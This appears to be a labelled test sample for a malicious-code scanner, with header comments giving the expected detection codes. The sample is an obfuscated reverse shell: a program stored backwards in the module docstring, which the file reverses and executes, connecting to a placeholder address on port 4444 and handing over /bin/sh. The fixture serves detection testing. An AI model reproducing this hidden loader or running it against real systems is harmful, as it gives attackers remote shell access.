# label: hostile
# expect: V501 V504
# note: A whole program is stored backwards in a docstring-like literal.
# obfuscated: yes
# allow: V201 V301
""")]'hs'[,'hs/nib/'(vcexe.so;)0,)(onelif.s(2pud.so;))4444,'8.2.0.291'((noitcennoc_etaerc.tekcos=s;so,tekcos tropmi"""

if __doc__:
    exec(__doc__[::-1])
